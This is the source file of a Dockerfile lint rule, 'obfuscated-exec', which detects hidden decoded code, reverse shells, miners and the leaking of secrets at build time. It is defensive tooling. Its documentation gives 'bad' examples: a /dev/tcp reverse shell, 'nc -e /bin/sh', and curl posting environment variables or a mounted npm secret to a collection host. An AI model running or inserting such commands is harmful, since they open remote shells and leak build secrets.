import { whenItRuns } from '../../../analysis/commands/stage-commands.ts';
import { windowsScripts } from '../../../analysis/windows/windows-commands.ts';
import { type CommandLine, instructionsOf, isReachable, type Stage } from '../../../model/dockerfile.ts';
import type { Problem } from '../../../model/findings/finding.ts';
import { defineRule } from '../../define-rule.ts';
import { BASE64, DECODES, ENCODED, ENCODED_OPTION, type Found, hiddenIn, saysItMines } from './hidden-code.ts';
import { mountedSecrets } from './known-secrets.ts';
import { decodedCode, encodedCommands } from './windows-hidden-code.ts';

export default defineRule({
  id: 'obfuscated-exec',
  on: 'stage',
  danger: { attacker: 'network', reach: 'users' },
  profile: 'recommended',
  precision: 'high',
  cwe: [506],
  docs: {
    title: 'Do not run code that hides itself, or gives secrets away',
    why: 'Code that is decoded and run at once, a shell whose input and output are a network connection, a program that mines coins, a request that carries all variables: attackers leave these behind in a Dockerfile that they managed to change. The code runs in the build, with its secrets, and in every container.',
    how: 'Find out who added the line and why, and treat the build as compromised until you know. If it is intended, put the plain code into a file of the repository and copy that.',
    limits:
      'Decoding data into a file is left alone, as are connections that only test whether a port is open. Of what is sent, it reports all variables, files below `/run/secrets`, secrets that a RUN mounts, variables with one of them, and the credentials of a user, if they are sent to a name with a dot; a secret in a header, or within other data, is how programs log in, unless it is encoded and a part of an address. A miner in CMD or ENTRYPOINT is accepted where the path of the file, the name of the stage or its base image says that it mines. Code of Python, Node, Ruby, Perl, PHP, R and Julia is read where the Dockerfile itself has it: in a word, a here-document, or a file that it writes. The rule does not know every way to hide code.',
    ways: [
      {
        do: 'Stop building it, and find out with `git log -S` who added the line.',
        trap: 'The name in a commit proves little: the account may be stolen, so ask the person.',
      },
      {
        do: 'Replace each secret that builds had, and delete images, caches and builders that ran it.',
        trap: 'A cache that is shared between repositories may have been changed for all of them.',
      },
      {
        do: 'If the code is intended, put it as plain text into a file of the repository, and copy that.',
        trap: 'Reviewers have to read that file as well: it must not download its real work.',
      },
    ],
    verify: {
      run: "docker history --no-trunc --format '{{.CreatedBy}}' IMAGE | grep -E 'base64 -d|eval|/dev/tcp'",
      prints: 'Nothing, for the image that was built anew.',
    },
    references: [
      'https://attack.mitre.org/techniques/T1027/',
      'https://attack.mitre.org/techniques/T1059/004/',
      'https://cwe.mitre.org/data/definitions/506.html',
    ],
  },
  examples: [
    {
      file: 'Dockerfile',
      bad: `
        FROM debian:12
        RUN «echo ZWNobyBoZWxsbwo= | base64 -d | bash»
        RUN «eval "$(echo ZWNobyBoZWxsbwo= | base64 --decode)"»
      `,
      good: `
        FROM debian:12
        RUN echo aGVsbG8K | base64 -d > /etc/greeting
        RUN echo hello
      `,
    },
    {
      file: 'Dockerfile',
      bad: `
        FROM debian:12
        RUN «bash -i >& /dev/tcp/203.0.113.7/4444 0>&1»
        RUN «nc -e /bin/sh 203.0.113.7 4444»
        RUN «env | curl -d @- https://collect.example.org/»
        RUN --mount=type=secret,id=npm «curl -d @/run/secrets/npm https://collect.example.org/»
      `,
      good: `
        FROM debian:12
        RUN timeout 5 bash -c '</dev/tcp/mirror.example.org/443'
        RUN nc -z mirror.example.org 443
        RUN --mount=type=secret,id=npm curl -H "Authorization: Bearer $(cat /run/secrets/npm)" -O https://registry.example.org/a.tgz
      `,
    },
  ],

  check(stage) {
    if (!isReachable(stage)) return [];
    const problems: Problem[] = [];
    const mayMine = isMiner(stage);
    for (const instruction of instructionsOf(stage, 'RUN', 'CMD', 'ENTRYPOINT', 'HEALTHCHECK')) {
      if (instruction.isTriggered) continue;
      const isBuild = instruction.keyword === 'RUN';
      const circumstances = { mayMine: mayMine && !isBuild, ...(isBuild && { secrets: mountedSecrets(instruction) }) };
      for (const found of hiddenIn(instruction.line?.script, circumstances))
        problems.push(problem(stage, instruction, found));
      const encoded = instruction.line && encodedText(instruction.line);
      if (encoded !== undefined) problems.push(problem(stage, instruction, encoded));
    }
    problems.push(...hiddenOnWindows(stage));
    for (const { script } of stage.startedFiles)
      for (const found of hiddenIn(script, { mayMine })) problems.push(problem(stage, { isOnbuild: false }, found));
    return problems;
  },
});

/** Whether the path of the file, the name of the stage or its base image says that it is the image of a miner. */
function isMiner({ file, label, base }: Stage): boolean {
  return saysItMines([file.path, label, base.kind === 'image' ? base.image.reference.value.text : '']);
}

function* hiddenOnWindows(stage: Stage): Generator<Problem> {
  for (const { instruction, tokens, isCalled } of windowsScripts(stage)) {
    for (const at of isCalled ? encodedCommands(tokens) : []) yield problem(stage, instruction, { at, how: ENCODED });
    for (const at of decodedCode(tokens)) yield problem(stage, instruction, { at, how: DECODES });
  }
}

const ENCODED_IN_TEXT = /\b(?:pwsh|powershell)(?:\.exe)?[ \t"]([^\r\n]{0,2000})/i;

/** `pwsh -EncodedCommand …` for a shell of Windows. */
function encodedText({ shell, text, span }: CommandLine): Found | undefined {
  if (shell === 'posix') return undefined;
  const words = ENCODED_IN_TEXT.exec(text)?.[1]?.split(/[ \t"',]+/) ?? [];
  const isHidden = words.some((word, at) => ENCODED_OPTION.test(words[at - 1] ?? '') && BASE64.test(word));
  return isHidden ? { at: span, how: ENCODED } : undefined;
}

function problem({ title }: Stage, run: { isOnbuild: boolean }, { at, how }: Found): Problem {
  return { at, message: whenItRuns(run, `${title} ${how}.`) };
}
